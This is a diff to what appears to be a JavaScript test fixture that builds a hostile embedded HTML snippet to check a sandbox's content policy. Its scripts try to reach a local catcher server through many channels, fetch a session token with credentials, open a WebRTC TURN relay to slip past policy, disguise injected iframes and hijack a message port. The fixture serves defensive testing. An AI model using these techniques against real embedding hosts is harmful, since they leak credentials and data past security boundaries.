@@ -12,13 +12,16 @@ export const ENDS = {
 /** Before what an attempt came to, in the console. */
 export const REPORT = "hostile|";
 
-/** A document inside the frame may be shown, and may do no more than the frame. */
-const inner = (catcher) => `<script>
-const say = (name, result) => parent.postMessage({ name, result }, "*");
-fetch("${catcher}/inner-fetch", { mode: "no-cors" }).then(() => say("fetch of an inner frame", "done"), () => say("fetch of an inner frame", "blocked"));
-try { top.location.href = "${catcher}/inner-top"; say("top navigation of an inner frame", top.location.href); } catch { say("top navigation of an inner frame", "blocked"); }
-try { say("page of an inner frame", parent.parent.document.title); } catch { say("page of an inner frame", "blocked"); }
+/** A document inside the frame would tell that it runs, and connect past every policy. */
+const inner = (catcher, how) => `<script>
+parent.postMessage({ inner: "${how}" }, "*");
+const peer = new RTCPeerConnection({ iceServers: [{ urls: "${catcher.replace("http://", "turn:")}?transport=tcp", username: "a", credential: "b" }], iceTransportPolicy: "relay" });
+peer.createDataChannel("a");
+peer.createOffer().then((offer) => peer.setLocalDescription(offer));
 </script>`;
+
+/** As text of a script inside of a script. */
+const quoted = (text) => JSON.stringify(text).replaceAll("</", "<\\/");
 
 /** Attempts report into the console, by which a test reads them; the last line is `end`. */
 export const snippet = (catcher, paramId, end) => `
@@ -33,7 +36,7 @@ export const snippet = (catcher, paramId, end) => `
 <object data="${catcher}/object"></object><embed src="${catcher}/embed"><video src="${catcher}/video"></video>
 <svg><image href="${catcher}/svg-image" /><use href="${catcher}/svg-use#a" /></svg>
 <style>@import "${catcher}/import"; @font-face { font-family: hostile; src: url("${catcher}/font"); } p { font-family: hostile; background: url("${catcher}/background"); }</style>
-<iframe id="inner" sandbox="allow-scripts allow-top-navigation allow-popups allow-forms"></iframe>
+<iframe sandbox="allow-scripts allow-top-navigation allow-popups" srcdoc="${inner(catcher, "text").replaceAll('"', "&quot;")}"></iframe>
 <script src="${catcher}/script"></script>
 <div param-value="#${paramId}">…</div>
 <script>
@@ -70,15 +73,23 @@ late("fetch the API", () => fetch("/api/v1/user/orgs/").then((reply) => reply.st
 late("fetch a token", () => fetch("/session/token/", { method: "POST", credentials: "include" }).then((reply) => reply.status));
 late("module", () => import("${catcher}/module"));
 late("database", () => new Promise((done, refuse) => { const request = indexedDB.open("a"); request.onsuccess = () => done("open"); request.onerror = refuse; }));
-waiting.push(new Promise((done) => {
-  let left = 3;
-  addEventListener("message", ({ data }) => {
-    if (!data.name) return;
-    say(data.name, data.result);
-    if (--left === 0) done();
-  });
-  document.querySelector("#inner").srcdoc = ${JSON.stringify(inner(catcher)).replaceAll("</", "<\\/")};
-}));
+const inside = [];
+addEventListener("message", ({ data }) => { if (data.inner) inside.push(data.inner); });
+// By a script, under a name that looks like another, where nobody looks.
+Element.prototype.remove = () => {};
+const frame = document.createElement("iframe");
+frame.srcdoc = ${quoted(inner(catcher, "element"))};
+document.body.append(frame);
+const named = document.createElementNS("http://www.w3.org/1999/xhtml", "x:iframe");
+named.setAttribute("srcdoc", ${quoted(inner(catcher, "prefix"))});
+document.body.append(named);
+sync("shadow", () => { document.createElement("div").attachShadow({ mode: "open" }); return "made"; });
+sync("shadow of a text", () => { document.createElement("div").setHTMLUnsafe(""); return "made"; });
+sync("document written anew", () => { document.open(); return "opened"; });
+waiting.push(new Promise((done) => setTimeout(() => {
+  say("frames inside", inside.length > 0 ? "done " + inside : "blocked");
+  done();
+}, 1000)));
 parent.postMessage({ id: 1, body: { ask: "write", ref: "#${paramId}", value: "60" } }, "*");
 // The bridge's own port can be had by changing what it is sent with.
 const send = MessagePort.prototype.postMessage;
@@ -124,6 +135,8 @@ export async function catcher() {
     asked.push(`${request.method} ${request.url}`);
     response.end();
   });
+  // Not all that connects speaks HTTP. Chromium connects ahead of a navigation, and says nothing where the policy then refuses it.
+  server.on("connection", (socket) => socket.once("data", (bytes) => asked.push(`${bytes.length} bytes`)));
   await new Promise((listening) => server.listen(0, "127.0.0.1", listening));
   return { url: `http://127.0.0.1:${server.address().port}`, asked, close: () => server.close() };
 }
